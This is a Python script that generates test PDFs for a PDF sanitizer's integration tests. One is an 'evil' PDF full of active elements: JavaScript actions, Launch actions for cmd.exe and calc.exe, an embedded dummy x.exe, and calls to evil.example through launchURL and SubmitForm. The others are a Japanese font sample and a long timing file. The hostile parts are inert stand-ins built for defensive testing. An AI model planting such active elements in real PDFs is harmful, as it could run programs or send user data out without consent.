#!/usr/bin/env python3
"""Writes the PDFs the PDF integration test needs (standard library only).

usage: pdf_make.py KIND OUT [N]
  evil      every active element the PDF module removes, around one text page
  japanese  Japanese text in a Type0 font with the predefined CMap 90ms-RKSJ-H and a
            non-embedded font (HeiseiMin-W3), like many Japanese office PDFs
  pages     N pages of text (default 200), for timing
"""
import sys
import zlib


def pdf(objects, trailer_extra=b""):
    """objects: {num: bytes body}. Returns a PDF with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n" % size
    out += b"0000000000 65535 f \n"
    for n in range(1, size):
        if n in offsets:
            out += b"%010d 00000 n \n" % offsets[n]
        else:
            out += b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R " % size + trailer_extra + b">>\n"
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def stream(data, extra=b"", compress=False):
    if compress:
        data = zlib.compress(data)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def evil():
    text = b"BT /F1 24 Tf 72 700 Td (Hello sekisho) Tj ET\nBT /F1 12 Tf 72 650 Td (second line of text) Tj ET"
    o = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R /AA << /WC 11 0 R >>"
           b" /Names << /JavaScript 12 0 R /EmbeddedFiles 13 0 R >>"
           b" /AcroForm << /Fields [20 0 R] /XFA 21 0 R >> /NeedsRendering true"
           b" /Outlines 30 0 R /Metadata 40 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
           b" /Resources << /Font << /F1 5 0 R >> >>"
           b" /Annots [50 0 R 51 0 R 52 0 R 53 0 R 54 0 R 55 0 R 20 0 R]"
           b" /AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> /C << /S /GoTo /D [3 0 R /Fit] >> >> >>",
        4: stream(text),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        10: b"<< /Type /Action /S /JavaScript /JS (app.alert\\('open'\\)) >>",
        11: b"<< /S /Launch /F (cmd.exe) >>",
        12: b"<< /Names [(a) 14 0 R] >>",
        13: b"<< /Names [(x.exe) 15 0 R] >>",
        14: b"<< /S /JavaScript /JS 16 0 R >>",
        15: b"<< /Type /Filespec /F (x.exe) /EF << /F 17 0 R >> >>",
        16: stream(b"app.launchURL('http://evil.example/', true);"),
        17: stream(b"MZ\x90\x00 not really a program", b"/Type /EmbeddedFile"),
        20: b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [72 500 200 530] /P 3 0 R"
            b" /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/submit) >> >>"
            b" /AA << /K << /S /JavaScript /JS (event.value=1) >> >> >>",
        21: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(2)</script></xdp:xdp>"),
        30: b"<< /Type /Outlines /First 31 0 R /Last 31 0 R /Count 1 >>",
        31: b"<< /Title (o) /Parent 30 0 R /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>",
        40: stream(b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>Taro Yamada</x:xmpmeta>", b"/Type /Metadata /Subtype /XML"),
        50: b"<< /Type /Annot /Subtype /Link /Rect [72 690 300 720] /A << /S /URI /URI (https://example.jp/) >> >>",
        51: b"<< /Type /Annot /Subtype /Link /Rect [72 640 300 660] /A << /S /Launch /Win << /F (calc.exe) >> >> >>",
        52: b"<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS 15 0 R >>",
        53: b"<< /Type /Annot /Subtype /RichMedia /Rect [10 40 30 60] >>",
        54: b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620]"
            b" /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /ImportData /F (data.fdf) >> >> >>",
        55: b"<< /Type /Annot /Subtype /Link /Rect [72 560 300 580]"
            b" /A << /S /GoToE /T << /R /C /N (x.exe) >> /D [0 /Fit] >> >>",
        60: b"<< /Author (Taro Yamada) /Producer (evil) >>",
    }
    return pdf(o, b"/Info 60 0 R ")


JA_LINES = ["関所は無害化の検問所です。", "インターネット接続系から LGWAN 接続系へ。", "住民票の写し 第１２３号"]


def japanese():
    content = bytearray()
    y = 700
    for line in JA_LINES:
        sjis = line.encode("cp932")
        esc = sjis.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")
        content += b"BT /F1 18 Tf 72 %d Td (" % y + esc + b") Tj ET\n"
        y -= 40
    o = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
           b" /Resources << /Font << /F1 5 0 R >> >> >>",
        4: stream(bytes(content)),
        5: b"<< /Type /Font /Subtype /Type0 /BaseFont /HeiseiMin-W3-90ms-RKSJ-H"
           b" /Encoding /90ms-RKSJ-H /DescendantFonts [6 0 R] >>",
        6: b"<< /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiMin-W3"
           b" /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >>"
           b" /FontDescriptor 7 0 R /DW 1000 >>",
        7: b"<< /Type /FontDescriptor /FontName /HeiseiMin-W3 /Flags 6 /FontBBox [-123 -257 1001 910]"
           b" /ItalicAngle 0 /Ascent 859 /Descent -141 /CapHeight 709 /StemV 69 >>",
    }
    return pdf(o)


def pages(n):
    o = {1: b"<< /Type /Catalog /Pages 2 0 R >>",
         3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"}
    kids = []
    num = 10
    for p in range(n):
        lines = b"".join(b"BT /F1 10 Tf 50 %d Td (Page %d line %d: the quick brown fox jumps over the lazy dog) Tj ET\n"
                         % (780 - 14 * i, p + 1, i + 1) for i in range(50))
        o[num] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R" \
                 b" /Resources << /Font << /F1 3 0 R >> >>" \
                 b" /Annots [<< /Type /Annot /Subtype /Link /Rect [50 50 200 70]" \
                 b" /A << /S /URI /URI (https://example.jp/p%d) >> >>] >>" % (num + 1, p)
        o[num + 1] = stream(lines, compress=True)
        kids.append(b"%d 0 R" % num)
        num += 2
    o[2] = b"<< /Type /Pages /Kids [" + b" ".join(kids) + b"] /Count %d >>" % n
    return pdf(o, b"/Info << /Author (Taro) /Producer (bench) >> ")


def main():
    kind, out = sys.argv[1], sys.argv[2]
    if kind == "evil":
        data = evil()
    elif kind == "japanese":
        data = japanese()
    elif kind == "pages":
        data = pages(int(sys.argv[3]) if len(sys.argv) > 3 else 200)
    elif kind == "japanese-text":
        data = ("\n".join(JA_LINES) + "\n").encode("utf-8")
    else:
        sys.exit("unknown kind " + kind)
    with open(out, "wb") as f:
        f.write(data)


if __name__ == "__main__":
    main()
